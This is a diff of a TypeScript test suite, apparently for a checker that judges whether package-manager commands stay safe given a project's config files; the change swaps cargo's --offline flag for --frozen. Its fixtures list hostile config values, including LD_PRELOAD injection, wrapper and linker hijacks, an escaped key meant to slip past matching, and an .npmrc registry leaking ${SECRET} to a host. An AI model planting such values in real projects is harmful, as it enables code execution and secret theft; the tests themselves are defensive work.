@@ -15,12 +15,12 @@ async function isProven(command: string, files: Readonly<Record<string, string>>
 
 describe('what a project configures ends a proof', () => {
   const hostile: readonly [string, Record<string, string>][] = [
-    ['cargo tree --offline', { '.cargo/config.toml': '[env]\nLD_PRELOAD = "./x.so"\n' }],
-    ['cargo metadata --offline', { '.cargo/config.toml': '[build]\nrustflags = ["-C", "linker=./x"]\n' }],
-    ['cargo tree --offline', { '.cargo/config.toml': '[build]\nrustc-wrapper = "./x"\n' }],
-    ['cargo tree --offline', { '.cargo/config.toml': '"b\\u0075ild".rustc = "./x"\n' }],
-    ['cargo tree --offline', { '.cargo/config.toml': 'build = { rustc = "./x" }\n' }],
-    ['cargo tree --offline', { '.cargo/config': '' }],
+    ['cargo tree --frozen', { '.cargo/config.toml': '[env]\nLD_PRELOAD = "./x.so"\n' }],
+    ['cargo metadata --frozen', { '.cargo/config.toml': '[build]\nrustflags = ["-C", "linker=./x"]\n' }],
+    ['cargo tree --frozen', { '.cargo/config.toml': '[build]\nrustc-wrapper = "./x"\n' }],
+    ['cargo tree --frozen', { '.cargo/config.toml': '"b\\u0075ild".rustc = "./x"\n' }],
+    ['cargo tree --frozen', { '.cargo/config.toml': 'build = { rustc = "./x" }\n' }],
+    ['cargo tree --frozen', { '.cargo/config': '' }],
     ['cargo --version', { 'rust-toolchain.toml': '[toolchain]\npath = "./x"\n' }],
     ['npm view x', { '.npmrc': 'registry=http://host/${SECRET}/\n' }],
     ['npm view x', { '.npmrc': 'registry=https://evil.example/\n' }],
@@ -64,10 +64,10 @@ describe('what a project configures ends a proof', () => {
     ],
     ['yarn --version', { '.yarnrc.yml': 'nodeLinker: node-modules\nenableTelemetry: false\n' }],
     [
-      'cargo tree --offline',
+      'cargo tree --frozen',
       { '.cargo/config.toml': '[alias]\nxtask = "run"\n[net]\nretry = 3\n[profile.dev]\nopt-level = 1\n' },
     ],
-    ['cargo tree --offline', { 'rust-toolchain.toml': '[toolchain]\nchannel = "1.80"\ncomponents = ["clippy"]\n' }],
+    ['cargo tree --frozen', { 'rust-toolchain.toml': '[toolchain]\nchannel = "1.80"\ncomponents = ["clippy"]\n' }],
     [
       'uv pip list',
       { 'pyproject.toml': '[project]\nname = "x"\nurls.Home = "https://x.example"\n[tool.black]\nline-length = 100\n' },
@@ -94,7 +94,7 @@ describe('what a project configures ends a proof', () => {
       npm: 'npm ls',
       pnpm: 'pnpm list',
       yarn: 'yarn --version',
-      cargo: 'cargo tree --offline',
+      cargo: 'cargo tree --frozen',
       composer: 'composer show --no-plugins --no-scripts',
       node: 'node --version',
       uv: 'uv --version',
